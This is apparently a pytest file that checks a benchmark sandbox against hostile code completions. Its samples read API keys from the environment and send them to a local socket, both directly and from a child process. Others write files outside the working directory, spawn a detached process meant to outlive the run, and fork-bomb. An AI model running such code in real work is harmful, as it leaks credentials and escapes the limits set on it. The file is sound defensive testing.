"""The Pass@1 sandbox against hostile completions: each escape a completion tried must fail."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import pytest_socket

from langchain_tag_bench.code import HumanEvalProblem, run_tests
from langchain_tag_bench.sandbox import PROCESS_LIMIT, sandbox_mode

pytestmark = pytest.mark.skipif(
    sandbox_mode() != "namespaces", reason="needs Linux user namespaces (the fallback is not a sandbox)"
)

SECRET = "sk-test-4c1d-secret"
PROBLEM = HumanEvalProblem(
    task_id="Sandbox/0",
    prompt='def escape(a: int) -> int:\n    """Return a."""\n',
    entry_point="escape",
    canonical_solution="    return a\n",
    test="def check(candidate):\n    assert candidate(1) == 1\n",
)


def _completion(body: str) -> str:
    """A completion running ``body`` when called (the check calls it), then returning the right answer."""
    indented = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return f"def escape(a):\n{indented}    return a\n"


@contextlib.contextmanager
def _listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 recording every byte anyone sends it."""
    pytest_socket.enable_socket()
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(4096))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        server.close()
        pytest_socket.disable_socket(allow_unix_socket=True)


@pytest.fixture
def secret_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("LANGCHAIN_TAG_API_KEY", SECRET)


SEND_WITH_SOCKET_MODULE = """
import _socket, os
key = os.environ.get("OPENAI_API_KEY", "") + os.environ.get("LANGCHAIN_TAG_API_KEY", "")
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.connect(("127.0.0.1", {port}))
s.sendall(("direct " + key).encode())
s.close()
"""

SEND_FROM_CHILD = """
import subprocess, sys
child = "import os, socket; socket.create_connection(('127.0.0.1', {port})).sendall(os.environ.get('OPENAI_API_KEY', 'none').encode())"
subprocess.run([sys.executable, "-c", child], check=True)
"""


@pytest.mark.parametrize("escape", [SEND_WITH_SOCKET_MODULE, SEND_FROM_CHILD], ids=["_socket", "subprocess child"])
@pytest.mark.usefixtures("secret_environment")
def test_no_secret_and_no_byte_leaves_through_the_network(escape: str) -> None:
    with _listener() as (port, received):
        result = run_tests(PROBLEM, _completion(escape.format(port=port)), timeout=10)
        time.sleep(0.3)
    assert received == []
    assert not result.passed


@pytest.mark.usefixtures("secret_environment")
def test_the_environment_is_empty() -> None:
    body = "import os\nassert 'OPENAI_API_KEY' not in os.environ and 'LANGCHAIN_TAG_API_KEY' not in os.environ\n"
    body += "assert set(os.environ) <= {'PATH', 'HOME', 'TMPDIR', 'LANG', 'LC_CTYPE'}, sorted(os.environ)\n"
    result = run_tests(PROBLEM, _completion(body), timeout=10)
    assert result.passed, result.detail


def test_files_outside_the_working_directory_cannot_be_written(tmp_path: Path) -> None:
    marker = uuid.uuid4().hex
    targets = [tmp_path / f"escape-{marker}", Path("/tmp") / f"escape-{marker}", Path("/var/tmp") / f"escape-{marker}"]
    targets += [Path.home() / f"escape-{marker}", Path(__file__).parent / f"escape-{marker}"]
    body = "import pathlib\nwritten = []\n"
    body += f"for target in {[str(t) for t in targets]!r}:\n"
    body += "    try:\n        pathlib.Path(target).write_text('x')\n        written.append(target)\n"
    body += "    except OSError:\n        pass\n"
    body += "for n in range(50):\n    pathlib.Path(f'inside-{n}').write_text('x')  # its own directory works\n"
    body += "assert written, 'nothing written outside'\n"
    try:
        result = run_tests(PROBLEM, _completion(body), timeout=10)
        assert [t for t in targets if t.exists()] == []
        assert not result.passed and "nothing written outside" in result.detail
    finally:
        for target in targets:
            with contextlib.suppress(OSError):
                target.unlink()


def _alive(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
    return found


@pytest.mark.parametrize("ending", ["timeout", "exit"])
def test_a_child_in_a_new_session_does_not_outlive_the_run(ending: str) -> None:
    marker = f"sandbox-daemon-{uuid.uuid4().hex}"
    body = "import subprocess, sys, time\n"
    body += f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', {marker!r}], "
    body += "start_new_session=True)\n"
    body += "time.sleep(0.5)\n"
    body += "while True:\n    pass\n" if ending == "timeout" else ""
    try:
        result = run_tests(PROBLEM, _completion(body), timeout=3)
        assert result.status == ("timeout" if ending == "timeout" else "passed"), result.detail
        deadline = time.monotonic() + 2
        while _alive(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _alive(marker) == []
    finally:
        for pid in _alive(marker):
            with contextlib.suppress(OSError):
                os.kill(pid, 9)


def test_a_fork_bomb_stops_at_the_process_limit() -> None:
    body = "import os, time\nchildren = []\n"
    body += "for _ in range(20):\n    pid = os.fork()\n    if pid == 0:\n        time.sleep(5)\n        os._exit(0)\n"
    body += "    children.append(pid)\n"
    result = run_tests(PROBLEM, _completion(body), timeout=10)
    assert not result.passed and "BlockingIOError" in result.detail
    assert PROCESS_LIMIT < 20


def test_an_honest_completion_still_passes_and_may_use_its_directory() -> None:
    body = "import pathlib, tempfile\npathlib.Path('scratch.txt').write_text('ok')\n"
    body += "with tempfile.TemporaryFile() as fh:\n    fh.write(b'ok')\n"
    result = run_tests(PROBLEM, _completion(body), timeout=10)
    assert result.passed, result.detail
